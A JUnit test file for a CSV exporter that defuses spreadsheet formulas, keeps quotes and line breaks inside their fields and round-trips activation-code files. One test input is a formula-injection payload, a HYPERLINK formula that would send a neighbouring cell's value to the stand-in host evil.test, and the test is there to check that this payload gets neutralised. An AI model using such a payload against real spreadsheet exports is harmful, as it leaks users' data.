package dev.auscult.report;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.auscult.sync.ActivationCsv;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Exports a spreadsheet opens as text, never as a formula or a split row; and they read back exactly. */
class SpreadsheetCsvTest {

    @Test
    void everyFieldIsQuotedAndAFormulaStartIsDefused() {
        String csv = SpreadsheetCsv.write(List.of("email", "code"), List.of(
                List.of("=HYPERLINK(\"http://evil.test/?c=\"&B2)&\"@x.io", "ABCD-1234"),
                List.of("laptop;=1+1", "mac\t=1+1"),
                List.of("+1", "-2"), List.of("@SUM(A1)", "\rx"), List.of("plain", "")));
        assertEquals("""
                "email","code"\r
                "'=HYPERLINK(""http://evil.test/?c=""&B2)&""@x.io","ABCD-1234"\r
                "laptop;=1+1","mac\t=1+1"\r
                "'+1","'-2"\r
                "'@SUM(A1)","'\rx"\r
                "plain",""\r
                """, csv);
    }

    @Test
    void aQuoteOrLineBreakInAFieldStaysInItsField() {
        List<List<String>> rows = List.of(List.of("\"bob@x.io", "c1"), List.of("carol\n@x.io", "c2"), List.of("dave@x.io", "c3"));
        List<List<String>> back = SpreadsheetCsv.read(SpreadsheetCsv.write(List.of("email", "code"), rows));
        assertEquals(4, back.size(), "a header and three rows, none merged");
        assertEquals(rows, back.subList(1, 4));
    }

    @Test
    void theActivationFileReadsBackWhatWasWrittenIncludingOlderUnquotedFiles() {
        List<ActivationCsv.Row> rows = List.of(new ActivationCsv.Row("alice@acme.example", "K7QX-29PD"), new ActivationCsv.Row("-bob@acme.example", "X"));
        assertEquals(rows, ActivationCsv.read(ActivationCsv.write(rows).lines().toList()));
        assertEquals(List.of(new ActivationCsv.Row("alice@acme.example", "K7QX-29PD")),
                ActivationCsv.read(List.of("\uFEFFemail,code", "", "alice@acme.example, K7QX-29PD")));
    }
}
